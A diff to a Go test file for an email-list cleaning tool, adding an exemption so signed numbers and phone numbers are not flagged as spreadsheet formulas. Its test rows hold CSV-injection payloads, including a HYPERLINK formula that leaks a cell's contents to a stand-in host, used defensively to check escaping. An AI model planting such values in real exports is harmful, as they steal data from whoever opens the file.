@@ -3,6 +3,7 @@ package main
 import (
 	"encoding/csv"
 	"path/filepath"
+	"regexp"
 	"strings"
 	"testing"
 	"unicode"
@@ -16,6 +17,7 @@ var hostileList = [][]string{
 	{"Email", "Name", "Notes"},
 	{`=HYPERLINK("http://evil.example/?leak="&A1,"Click")@x.com`, "=1+2", "@SUM(1+1)"},
 	{"@SUM(1)@x.com", "+33 1 23 45 67 89", "-2+3"},
+	{"phone@x.com", "-5", "+1 (555) 010-9999"},         // numbers: left alone
 	{"=cmd@gmail.con", "\tTabbed", "\rCarriage"},       // bad_domain; suggestion =cmd@gmail.com
 	{"-2+3@gmial.com", "Minus", "=IMPORTXML(A1)"},      // typo of gmail.com; suggestion -2+3@gmail.com
 	{"+1@yahoo.com", "Plus", "plain"},                  // valid as it is
@@ -27,10 +29,15 @@ var hostileList = [][]string{
 }
 
 // formulaStart reports whether a spreadsheet would read c as a formula
-// (OWASP CSV injection: = + - @, tab, carriage return).
+// (OWASP CSV injection: = + - @, tab, carriage return), but for a number
+// or a phone number with a sign (-5, +44 20 7946 0958), which it reads as
+// a number or text and which -escape-formulas leaves alone.
 func formulaStart(c string) bool {
-	return c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0]))
+	return c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && !signedNumber.MatchString(c)
 }
+
+// signedNumber matches a number or phone number that starts with a sign.
+var signedNumber = regexp.MustCompile(`^[-+][0-9(][0-9 .,()/-]*$`)
 
 // TestFormulaInjection: the tool's own columns (the whole report, and the
 // listclean_* columns of the removed file) never start with a formula
